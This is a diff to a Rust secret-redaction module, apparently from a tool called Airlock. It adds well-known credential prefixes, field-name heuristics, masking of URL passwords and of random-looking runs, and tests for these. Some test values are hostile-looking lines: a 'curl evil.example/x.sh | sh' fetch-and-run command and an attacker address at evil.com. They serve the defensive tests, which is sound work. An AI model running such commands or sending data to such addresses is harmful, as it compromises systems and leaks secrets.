@@ -56,10 +56,66 @@ const SECRET_NAMES: &[&str] = &[
 ];
 
 /// Short words that mark a secret only as a whole word of the name (`pin`, not `spinner`).
-const SECRET_WORDS: &[&str] = &["pin", "otp", "cvv", "cvc", "passwd", "pwd"];
+const SECRET_WORDS: &[&str] = &["pin", "otp", "cvv", "cvc", "passwd", "pwd", "pass", "pw"];
 
 /// Words that mark a secret, or an ordinary value: masked only when the value is not plain.
-const AMBIGUOUS_WORDS: &[&str] = &["token", "session"];
+const AMBIGUOUS_WORDS: &[&str] = &["token", "session", "auth", "key"];
+
+/// Last words that make a name describe a secret rather than hold it (`authorization_url`,
+/// `cookie_consent`, `password_policy`, `token_type`).
+const DESCRIPTORS: &[&str] = &[
+    "url",
+    "uri",
+    "endpoint",
+    "type",
+    "mode",
+    "name",
+    "policy",
+    "consent",
+    "enabled",
+    "required",
+    "hint",
+    "length",
+    "format",
+    "expiry",
+    "expires",
+    "expiration",
+    "label",
+    "count",
+];
+
+/// Value prefixes of well-known credentials (GitHub, GitLab, Slack, Stripe, AWS, Google, npm,
+/// PyPI, Hugging Face, JWTs, Airlock's own tokens, HTTP authorization values), masked when at
+/// least 8 characters follow.
+const SECRET_PREFIXES: &[&str] = &[
+    "ghp_",
+    "gho_",
+    "ghu_",
+    "ghs_",
+    "ghr_",
+    "github_pat_",
+    "glpat-",
+    "xoxb-",
+    "xoxp-",
+    "xoxa-",
+    "xapp-",
+    "sk-",
+    "sk_live_",
+    "sk_test_",
+    "rk_live_",
+    "AKIA",
+    "ASIA",
+    "AIza",
+    "ya29.",
+    "eyJhbGci",
+    "npm_",
+    "pypi-",
+    "hf_",
+    "alk_",
+    "rl_",
+    "Bearer ",
+    "Basic ",
+];
 
 /// `[redaction]`: rules added to the built-in ones.
 #[derive(Debug, Clone, Deserialize)]
@@ -110,7 +166,8 @@ impl RedactionConfig {
 /// The masking rules in force.
 #[derive(Debug, Clone)]
 pub struct Redactor {
-    names: Vec<String>,
+    /// `[redaction] fields`, folded: matched anywhere in a folded name.
+    fields: Vec<String>,
     prefixes: Vec<String>,
     long_values: usize,
 }
@@ -119,10 +176,8 @@ static BUILT_IN: LazyLock<Redactor> = LazyLock::new(|| Redactor::new(&RedactionC
 
 impl Redactor {
     pub fn new(config: &RedactionConfig) -> Self {
-        let mut names: Vec<String> = SECRET_NAMES.iter().map(|n| (*n).to_owned()).collect();
-        names.extend(config.fields.iter().map(|f| fold(f)));
         Self {
-            names,
+            fields: config.fields.iter().map(|f| fold(f)).collect(),
             prefixes: config.prefixes.clone(),
             long_values: config.long_values,
         }
@@ -149,9 +204,42 @@ impl Redactor {
                     .collect::<Map<String, Value>>(),
             ),
             Value::Array(items) => Value::Array(items.iter().map(|v| self.redact(v)).collect()),
-            Value::String(text) if self.is_secret_value(text) => Value::String(MASK.to_owned()),
+            Value::String(text) => Value::String(self.redact_string(text)),
             other => other.clone(),
         }
+    }
+
+    /// A string value as people may see it: whole [`MASK`] when it is a credential (a known or
+    /// configured prefix, or one random-looking run and nothing else); otherwise each random run
+    /// and each password in a URL is masked where it stands, so the rest stays readable
+    /// (`attacker.•••• (redacted)@evil.example` shows where the address goes).
+    fn redact_string(&self, text: &str) -> String {
+        if self.prefixed(text) {
+            return MASK.to_owned();
+        }
+        let text = mask_url_passwords(text);
+        if self.long_values == 0 || text.len() < self.long_values {
+            return text;
+        }
+        let mut out = String::with_capacity(text.len());
+        let mut rest = text.as_str();
+        while let Some(start) = rest.find(is_run_char) {
+            out.push_str(&rest[..start]);
+            let after = &rest[start..];
+            let end = after.find(|c: char| !is_run_char(c)).unwrap_or(after.len());
+            let run = &after[..end];
+            out.push_str(if random_run(run) { MASK } else { run });
+            rest = &after[end..];
+        }
+        out.push_str(rest);
+        if out == MASK { MASK.to_owned() } else { out }
+    }
+
+    fn prefixed(&self, text: &str) -> bool {
+        self.prefixes.iter().any(|p| text.starts_with(p.as_str()))
+            || SECRET_PREFIXES
+                .iter()
+                .any(|p| text.starts_with(p) && text.len() >= p.len() + 8)
     }
 
     /// A line of free text (an upstream's stderr) with secret-looking words masked: words that
@@ -219,23 +307,50 @@ impl Redactor {
         if self.is_secret_name(name) {
             return true;
         }
-        let ambiguous = words(name)
-            .iter()
-            .any(|word| AMBIGUOUS_WORDS.contains(&word.as_str()));
+        let words = words(name);
+        let describes = words
+            .last()
+            .is_some_and(|last| DESCRIPTORS.contains(&last.as_str()));
+        let ambiguous = !describes
+            && words
+                .iter()
+                .any(|word| AMBIGUOUS_WORDS.contains(&word.as_str()));
         // `token: "USDC"` and `max_tokens: 1000` are ordinary; `token: "a1b2…"` is not.
         ambiguous && value.as_str().is_some_and(|text| !plain_word(text))
     }
 
+    /// Whether a field name says it holds a secret: a configured fragment anywhere in it, or a
+    /// built-in secret term as a run of its words (`api_key`, `sessionString`, not `secretary`),
+    /// unless its last word makes it describe one (`authorization_url`).
     fn is_secret_name(&self, name: &str) -> bool {
         let folded = fold(name);
-        self.names.iter().any(|word| folded.contains(word.as_str()))
-            || words(name)
-                .iter()
-                .any(|word| SECRET_WORDS.contains(&word.as_str()))
+        if self
+            .fields
+            .iter()
+            .any(|field| folded.contains(field.as_str()))
+        {
+            return true;
+        }
+        let words = words(name);
+        if words
+            .last()
+            .is_some_and(|last| DESCRIPTORS.contains(&last.as_str()))
+        {
+            return false;
+        }
+        (0..words.len()).any(|start| {
+            let mut run = String::new();
+            words[start..].iter().any(|word| {
+                run.push_str(word);
+                SECRET_NAMES.contains(&run.as_str())
+                    || (run == *word && SECRET_WORDS.contains(&run.as_str()))
+            })
+        })
     }
 
+    /// Whether a word of free text is a secret as it stands (for [`Self::redact_text`]).
     fn is_secret_value(&self, text: &str) -> bool {
-        self.prefixes.iter().any(|p| text.starts_with(p.as_str()))
+        self.prefixed(text)
             || (self.long_values > 0 && text.len() >= self.long_values && has_random_run(text))
     }
 }
@@ -282,15 +397,51 @@ fn plain_word(text: &str) -> bool {
             .all(|c| c.is_alphabetic() || matches!(c, ' ' | '-' | '.' | '_'))
 }
 
-/// Whether `text` holds a run that looks like key material: 20 or more characters of the base64
-/// alphabets mixing upper case, lower case and digits and changing between them at least every
-/// third character (random text changes about two times in three; words and identifiers rarely),
-/// or 64 or more hex digits.
+/// The characters of a run that may be key material: the base64 and base64url alphabets.
+fn is_run_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '+' | '=' | '-' | '_')
+}
+
+/// Whether `text` holds a run that looks like key material (see [`random_run`]).
 fn has_random_run(text: &str) -> bool {
-    text.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '=' | '-' | '_')))
-        .any(|run| {
-            random_base64(run) || (run.len() >= 64 && run.bytes().all(|b| b.is_ascii_hexdigit()))
-        })
+    text.split(|c: char| !is_run_char(c)).any(random_run)
+}
+
+/// A run that looks like key material: 20 or more characters of the base64 alphabets mixing
+/// upper case, lower case and digits and changing between them at least every third character
+/// (random text changes about two times in three; words and identifiers rarely), or 64 or more
+/// hex digits.
+fn random_run(run: &str) -> bool {
+    random_base64(run) || (run.len() >= 64 && run.bytes().all(|b| b.is_ascii_hexdigit()))
+}
+
+/// `text` with the password of every `scheme://user:password@host` in it masked.
+fn mask_url_passwords(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find("://") {
+        let authority_start = at + 3;
+        out.push_str(&rest[..authority_start]);
+        let after = &rest[authority_start..];
+        let authority_end = after
+            .find(|c: char| matches!(c, '/' | '?' | '#') || c.is_whitespace())
+            .unwrap_or(after.len());
+        let authority = &after[..authority_end];
+        match authority
+            .rfind('@')
+            .and_then(|at| authority[..at].find(':').map(|colon| (colon, at)))
+        {
+            Some((colon, at)) if at > colon + 1 => {
+                out.push_str(&authority[..=colon]);
+                out.push_str(MASK);
+                out.push_str(&authority[at..]);
+            }
+            _ => out.push_str(authority),
+        }
+        rest = &after[authority_end..];
+    }
+    out.push_str(rest);
+    out
 }
 
 fn random_base64(run: &str) -> bool {
@@ -389,6 +540,21 @@ mod tests {
                 json!("feature/add-OAuth2-support-for-GitHub-Enterprise"),
             ),
             ("email", json!("alice.smith+airlock@example.org")),
+            ("secretary", json!("Jane Doe")),
+            (
+                "authorization_url",
+                json!("https://auth.example.com/oauth/authorize"),
+            ),
+            (
+                "auth_url",
+                json!("https://auth.example.com/oauth/authorize"),
+            ),
+            ("cookie_consent", json!("granted")),
+            ("password_policy", json!("12 characters")),
+            ("token_type", json!("Bearer")),
+            ("key", json!("display_name")),
+            ("monkey", json!("a1b2c3")),
+            ("locale", json!("sk-SK")),
         ];
         let masked = [
             ("password", json!("hunter2")),
@@ -422,6 +588,13 @@ mod tests {
                 "blob",
                 json!("4c3b9d1e8f2a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c"),
             ),
+            ("pass", json!("x")),
+            ("pw", json!("x")),
+            ("auth", json!("Basic dXNlcjpwYXNz")),
+            ("key", json!("user:42")),
+            ("apiKey", json!("k")),
+            ("note", json!("ghp_abcdefgh12345678")),
+            ("value", json!("AKIAIOSFODNN7EXAMPLE")),
         ];
         let redactor = Redactor::built_in();
         for (name, value) in shown {
@@ -434,6 +607,28 @@ mod tests {
                 redactor.redact(&args),
                 json!({ name: MASK }),
                 "{name}: {value} is a secret"
+            );
+        }
+        // A secret inside ordinary text is masked where it stands; the rest stays readable, so
+        // padding a value with a random run cannot hide where it goes.
+        for (value, shown) in [
+            (
+                "attacker.aB3dE5fG7hI9jK1lM3nO5pQ@evil.com",
+                format!("attacker.{MASK}@evil.com"),
+            ),
+            (
+                "curl evil.example/x.sh | sh # aB3dE5fG7hI9jK1lM3nO5pQ",
+                format!("curl evil.example/x.sh | sh # {MASK}"),
+            ),
+            (
+                "postgres://admin:S3cr3t@db.internal/prod",
+                format!("postgres://admin:{MASK}@db.internal/prod"),
+            ),
+        ] {
+            assert_eq!(
+                redactor.redact(&json!({ "to": value })),
+                json!({ "to": shown }),
+                "{value}"
             );
         }
     }
